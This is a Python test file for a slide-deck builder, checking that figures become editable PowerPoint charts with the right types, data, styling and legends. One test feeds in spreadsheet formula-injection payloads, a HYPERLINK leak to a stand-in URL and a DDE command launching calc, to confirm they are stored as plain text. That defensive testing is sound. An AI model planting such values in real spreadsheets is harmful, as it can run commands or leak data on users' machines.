"""Figures become native charts a candidate can click and edit; `render: picture` still draws a picture."""

from __future__ import annotations

import io
import subprocess
import zipfile
from pathlib import Path
from typing import Any

from pptx import Presentation
from pptx.enum.chart import XL_CHART_TYPE

from deckbuilder import load_outline, plan_talk
from deckbuilder.core.rules.config import default_config
from deckbuilder.export.build import build_deck
from deckbuilder.export.cache import FigureCache
from deckbuilder.rehearse.deck_reader import read_deck

from .conftest import PYTHON, write_outline

CONFIG = default_config()

# How a candidate writes figures: a city ranking with one bar picked out, an error breakdown sideways,
# a daily line with several series, and a precision-recall curve with its threshold.
SLIDES: list[dict[str, Any]] = [
    {
        "kind": "results",
        "title": "Oakland and San Jose lose the most rides to empty docks",
        "figure": {
            "chart": "bar",
            "title": "Rides lost a week",
            "data": {"city": ["Oakland", "San Jose", "Berkeley"], "rides_lost": [1200, 950.5, 310]},
            "highlight": ["Oakland"],
        },
    },
    {
        "kind": "error_analysis",
        "title": "Errors concentrate on holidays and around the stadium",
        "figure": {
            "chart": "barh",
            "title": "Error by day type",
            "data": {"day": ["Ordinary weekday", "Public holiday", "Stadium event"], "value": [0.1, 0.12, 0.205]},
        },
    },
    {
        "kind": "results",
        "title": "The forecast follows the evening peak within 10%",
        "figure": {
            "chart": "line",
            "title": "Hourly pickups",
            "data": {"hour": [6, 7, 8, 9], "actual": [10, 40, 55, 30], "forecast": [12, 38, 50, 33]},
        },
    },
    {
        "kind": "results",
        "title": "At 30% precision the model finds 62% of churners",
        "figure": {
            "chart": "pr_curve",
            "title": "Precision against recall",
            "data": {"recall": [0.0, 0.3, 0.62, 1.0], "precision": [0.9, 0.6, 0.3, 0.08]},
            "baseline": 0.08,
            "operating_point": {"recall": 0.62, "precision": 0.3, "label": "proposed threshold"},
        },
    },
]


def _build(tmp_path: Path, slides: list[dict[str, Any]]) -> tuple[Path, Any]:
    outline = load_outline(write_outline(tmp_path, slides))
    out = tmp_path / "talk.pptx"
    result = build_deck(outline, plan_talk(outline), out, cache=FigureCache(None))
    return out, result


def _xs(chart: Any) -> list[list[float]]:
    """Return each series' x values of a scatter chart, as written in the chart."""
    c = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"
    return [[float(v.text or "") for v in x.iter(f"{c}v")] for x in chart._chartSpace.iter(f"{c}xVal")]


def _charts(path: Path) -> list[Any]:
    return [shape.chart for slide in Presentation(str(path)).slides for shape in slide.shapes if shape.has_chart]


def test_every_figure_is_an_editable_chart_with_its_data(tmp_path: Path) -> None:
    out, result = _build(tmp_path, SLIDES)
    assert (result.charts, result.figures, result.rendered) == (4, 0, 0)
    bar, barh, line, curve = _charts(out)
    assert bar.chart_type == XL_CHART_TYPE.COLUMN_CLUSTERED
    assert list(bar.plots[0].categories) == ["Oakland", "San Jose", "Berkeley"]
    assert list(bar.plots[0].series[0].values) == [1200, 950.5, 310]
    assert barh.chart_type == XL_CHART_TYPE.BAR_CLUSTERED
    # Hours are numbers: the line is a scatter with lines, each point at its hour on a value axis.
    assert line.chart_type in (XL_CHART_TYPE.XY_SCATTER_LINES, XL_CHART_TYPE.XY_SCATTER_LINES_NO_MARKERS)
    assert [s.name for s in line.plots[0].series] == ["actual", "forecast"]
    assert _xs(line) == [[6.0, 7.0, 8.0, 9.0]] * 2
    assert curve.chart_type in (XL_CHART_TYPE.XY_SCATTER, XL_CHART_TYPE.XY_SCATTER_LINES_NO_MARKERS)
    # The data lives in an embedded workbook, so PowerPoint's "Edit Data" opens it.
    with zipfile.ZipFile(out) as archive:
        names = archive.namelist()
    assert sum(n.startswith("ppt/charts/chart") and n.endswith(".xml") for n in names) == 4
    assert sum(n.startswith("ppt/embeddings/") and n.endswith(".xlsx") for n in names) == 4


def test_highlighted_bar_is_in_the_accent_colour_and_labels_share_decimals(tmp_path: Path) -> None:
    out, _ = _build(tmp_path, SLIDES[:2])
    bar, barh = _charts(out)
    accent, primary = CONFIG.theme.color("accent"), CONFIG.theme.color("primary")
    series = bar.plots[0].series[0]
    assert str(series.points[0].format.fill.fore_color.rgb) == accent
    assert str(series.format.fill.fore_color.rgb) == primary
    # 0.1 beside 0.12 and 0.205 shows as 0.100, 0.120, 0.205: one number of decimals on a chart
    assert barh.plots[0].data_labels.number_format_is_linked
    xml = barh._chartSpace.xml
    assert "<c:formatCode>#,##0.000</c:formatCode>" in xml
    assert bar.plots[0].has_data_labels
    assert "<c:formatCode>#,##0.0</c:formatCode>" in bar._chartSpace.xml


def test_axis_titles_come_from_meaningful_column_names_only(tmp_path: Path) -> None:
    out, _ = _build(tmp_path, SLIDES[:2])
    bar, barh = _charts(out)
    assert bar.value_axis.axis_title.text_frame.text == "rides lost"
    assert not barh.value_axis.has_title  # a column named "value" says nothing
    assert not barh.category_axis.has_title
    assert all(not chart.has_title for chart in (bar, barh))  # the slide title is the one headline


def test_chart_text_is_the_type_scale_chart_size_in_the_theme_font(tmp_path: Path) -> None:
    out, _ = _build(tmp_path, SLIDES)
    for chart in _charts(out):
        assert chart.font.size.pt == CONFIG.theme.figure["chart_size"]
        assert chart.font.name == CONFIG.theme.font


def test_curve_has_dashed_baseline_and_an_operating_point_named_in_the_legend(tmp_path: Path) -> None:
    out, _ = _build(tmp_path, SLIDES[3:])
    (curve,) = _charts(out)
    model, baseline, chosen = curve.plots[0].series
    assert model.name == "model"
    assert baseline.name == "random baseline (0.08)"
    assert list(baseline.values) == [0.08, 0.08]
    assert 'prstDash val="dash"' in baseline._element.xml
    assert chosen.name == "proposed threshold: 62% recall, 30% precision"
    assert list(chosen.values) == [0.3]
    # No label beside the point, where the curve runs through it.
    assert "<c:dLbl>" not in chosen._element.xml
    assert curve.has_legend


def test_a_figure_can_ask_to_be_a_picture(tmp_path: Path) -> None:
    slides = [dict(SLIDES[0], figure={**SLIDES[0]["figure"], "render": "picture"})]
    out, result = _build(tmp_path, slides)
    assert (result.charts, result.figures, result.rendered) == (0, 1, 1)
    shapes = list(Presentation(str(out)).slides[0].shapes)
    assert not any(s.has_chart for s in shapes)
    assert any(s.shape_type == 13 for s in shapes)


def test_a_deck_of_native_charts_never_imports_matplotlib_and_still_reads_back(tmp_path: Path) -> None:
    talk = write_outline(tmp_path, SLIDES)
    out = tmp_path / "talk.pptx"
    script = (
        "import sys\n"
        "from deckbuilder.cli import main\n"
        f"sys.argv = ['deck', 'build', {str(talk)!r}, '-o', {str(out)!r}]\n"
        "try:\n    main()\nexcept SystemExit:\n    pass\n"
        "sys.stderr.write('MPL=' + str('matplotlib' in sys.modules))\n"
    )
    env = {"DECK_CACHE_DIR": str(tmp_path / "cache"), "PATH": "/usr/bin:/bin"}
    done = subprocess.run([PYTHON, "-c", script], capture_output=True, text=True, env=env)
    assert "MPL=False" in done.stderr, done.stderr
    assert "4 chart(s), 0 picture(s)" in done.stdout
    deck = read_deck(out)
    assert [s.title for s in deck.slides] == [s["title"] for s in SLIDES]
    assert deck.plan is not None and len(deck.plan.slides) == len(SLIDES)


def test_bars_down_a_short_side_step_their_labels_down_the_type_scale() -> None:
    from deckbuilder.core.outline.model import Figure
    from deckbuilder.export.chart_shape import shape_of

    theme, size = CONFIG.theme, CONFIG.theme.figure["chart_size"]
    segments = ["Card present domestic", "Card present abroad", "Online known merchant", "Online new merchant"] * 3

    def tick(count: int, height_in: float) -> float:
        figure = Figure.parse(
            {"chart": "barh", "title": "t", "data": {"segment": segments[:count], "recall": [0.5] * count}}
        )
        return shape_of(figure, theme, CONFIG.glyphs, 8.0, height_in, size).tick

    assert tick(4, 3.4) == size  # four bars have room at the chart size
    crowded = tick(12, 2.9)
    assert crowded < size and crowded in theme.scale
    assert 12 * crowded * theme.line_spacing <= 2.9 * 72  # each label a line of its own


def test_text_from_the_data_is_never_a_formula_in_the_charts_workbook(tmp_path: Path) -> None:
    # A CSV from somewhere else can carry a spreadsheet formula as a category, a column name or a point's label;
    # PowerPoint's "Edit Data" opens the chart's workbook in Excel, which would run it.
    (tmp_path / "segments.csv").write_text(
        'segment,"=HYPERLINK(""http://example.com/?leak"",1)"\n=1+2,0.1\n=cmd|\' /C calc\'!A0,0.2\nhttp://example.com,0.3\n',
        encoding="utf-8",
    )
    slides = [
        {
            "kind": "results",
            "title": "Segment three fails twice as often as the rest",
            "figure": {"chart": "bar", "title": "Failure rate by segment", "data": "segments.csv"},
        },
        {
            "kind": "results",
            "title": "At 30% precision the model finds 62% of churners",
            "figure": {
                **SLIDES[3]["figure"],
                "operating_point": {"recall": 0.62, "precision": 0.3, "label": "=SUM(A1:A9)"},
            },
        },
    ]
    out, result = _build(tmp_path, slides)
    assert result.charts == 2
    with zipfile.ZipFile(out) as deck:
        books = [name for name in deck.namelist() if name.endswith(".xlsx")]
        assert len(books) == 2
        for name in books:
            with zipfile.ZipFile(io.BytesIO(deck.read(name))) as book:
                sheet = book.read("xl/worksheets/sheet1.xml").decode()
                strings = book.read("xl/sharedStrings.xml").decode()
                assert "<f>" not in sheet and "<hyperlink" not in sheet  # kept as the text it is
                assert "=" in strings
    bars = next(chart for chart in _charts(out) if chart.chart_type == XL_CHART_TYPE.COLUMN_CLUSTERED)
    assert list(bars.plots[0].categories)[:2] == ["=1+2", "=cmd|' /C calc'!A0"]  # shown as written


def test_charts_draw_the_level_they_are_read_against_and_name_their_origin_once(tmp_path: Path) -> None:
    level = {"value": 1.0, "label": "break-even ($1.00)"}
    data = {"channel": ["TV", "Display", "Search"], "return": [0.7, -0.2, 2.4]}
    slides = [
        {"kind": "results", "title": "Returns by channel", "figure": {"chart": "bar", "title": "t", "data": data,
                                                                     "reference": level}},
        {"kind": "results", "title": "Returns by channel", "figure": {"chart": "barh", "title": "t", "data": data,
                                                                      "reference": level}},
        SLIDES[3],
    ]  # fmt: skip
    out, _ = _build(tmp_path, slides)
    columns, across, curve = _charts(out)
    # Upright bars: the level is a dashed line series over the categories, named in a legend of its own.
    assert "<c:lineChart>" in columns._chartSpace.xml and 'prstDash val="dash"' in columns._chartSpace.xml
    assert columns.has_legend
    # A bar below zero would run over its name at the axis: the names sit at the plot's low edge.
    assert 'c:tickLblPos val="low"' in columns._chartSpace.xml
    # Bars across: the plot is placed by hand and the level drawn where it falls, behind the chart.
    slide = Presentation(str(out)).slides[1]
    names = [s.name for s in slide.shapes]
    assert "<c:manualLayout>" in across._chartSpace.xml
    assert names.index("Reference Line") < names.index("Figure") and "Reference Label" in names
    # A PR curve's origin is named once, by recall: precision's axis hides its zero.
    assert curve.value_axis.tick_labels.number_format == "0%;-0%;;"


_C = "{http://schemas.openxmlformats.org/drawingml/2006/chart}"


def _legend(chart: Any) -> Any:
    return chart._chartSpace.find(f".//{_C}legend")


def _curve_slide(curve: dict[str, list[float]], point: dict[str, Any]) -> dict[str, Any]:
    return {
        "kind": "results",
        "title": "At the review team's capacity the model finds 61% of the late loads",
        "figure": {"chart": "pr_curve", "title": "Precision against recall", "data": curve, "baseline": 0.05,
                   "operating_point": point},
    }  # fmt: skip


def test_a_curve_leaves_its_model_out_of_the_legend_and_puts_it_in_the_corner_the_curve_leaves_empty(
    tmp_path: Path,
) -> None:
    # A typical curve falls from the top left: the top right corner of the plot is empty, and the legend sits
    # there instead of taking rows of the plot's height above it.
    falling = {"recall": [0.1, 0.3, 0.5, 0.61, 0.8, 0.95], "precision": [0.7, 0.55, 0.42, 0.35, 0.2, 0.08]}
    out, _ = _build(tmp_path, [_curve_slide(falling, {"recall": 0.61, "precision": 0.35})])
    (curve,) = _charts(out)
    legend = _legend(curve)
    hidden = [e.find(f"{_C}idx").get("val") for e in legend.findall(f"{_C}legendEntry")]
    assert hidden == ["0"]  # the model's curve is what the axes name; the legend names the baseline and the point
    assert curve.plots[0].series[2].name == "61% recall, 35% precision"  # no "operating point:" before it
    assert legend.find(f"{_C}overlay").get("val") == "1"
    spot = legend.find(f"{_C}layout/{_C}manualLayout")
    assert spot is not None and float(spot.find(f"{_C}x").get("val")) > 0.4  # at the right
    assert float(spot.find(f"{_C}y").get("val")) < 0.2  # at the top
    plot = curve._chartSpace.find(f".//{_C}plotArea/{_C}layout/{_C}manualLayout")
    assert plot is not None  # the plot placed by hand, so the legend's place in it is known


def test_a_curve_through_the_top_right_corner_keeps_its_legend_above_the_plot(tmp_path: Path) -> None:
    # A strong model holds its precision to high recall: the corner is the curve's, and the legend stays on top.
    strong = {"recall": [0.1, 0.5, 0.8, 0.9, 1.0], "precision": [0.98, 0.95, 0.9, 0.8, 0.3]}
    out, _ = _build(tmp_path, [_curve_slide(strong, {"recall": 0.8, "precision": 0.9})])
    (curve,) = _charts(out)
    legend = _legend(curve)
    assert legend.find(f"{_C}legendPos").get("val") == "t"
    assert legend.find(f"{_C}overlay").get("val") == "0"
    assert legend.find(f"{_C}layout/{_C}manualLayout") is None
